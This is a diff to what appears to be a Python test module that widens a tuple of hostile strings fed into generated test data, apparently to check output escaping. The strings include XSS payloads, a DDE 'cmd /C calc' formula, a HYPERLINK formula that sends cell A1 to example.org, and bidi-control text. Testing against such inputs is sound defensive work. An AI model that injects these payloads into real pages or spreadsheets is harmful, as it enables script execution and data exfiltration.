@@ -60,7 +60,17 @@ SCRIPT = "<script>window.pwned = 1</script>"
 IMAGE = '"><img src=x onerror="window.pwned = 1">'
 LINK = 'javascript:window.pwned=1//" href="javascript:window.pwned=1'
 FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
-HOSTILE = (SCRIPT, IMAGE, LINK, FORMULA, "@SUM(1+1)*cmd|' /C calc'!A0", "+cmd()", "-cmd()", "\x0b\x00]]>-->")
+HOSTILE = (
+    SCRIPT,
+    IMAGE,
+    LINK,
+    FORMULA,
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "+cmd()",
+    "-cmd()",
+    "\x0b\x00]]>-->",
+    "\x1b[31m\u202egnp[/b]",
+)
 SECTIONS = {
     *(
         "table",
@@ -242,7 +252,10 @@ def on_fewer(record, n: int):
 def dataset(records, names, classes) -> DataSet:
     """Make the data of the runs: positions, properties and images of the test sources."""
     n, rng = len(names), np.random.default_rng(5)
-    extra = {"size": rng.uniform(1, 200, n), "parent": np.array([*HOSTILE, "a"])[np.arange(n) % 9]}
+    extra = {
+        "size": rng.uniform(1, 200, n),
+        "parent": np.array([*HOSTILE, "a"])[np.arange(n) % (len(HOSTILE) + 1)],
+    }
     label = np.arange(n) % len(classes)
     zero = np.zeros(n, np.int64)
     ra, dec = rng.uniform(100, 200, n), rng.uniform(0, 60, n)
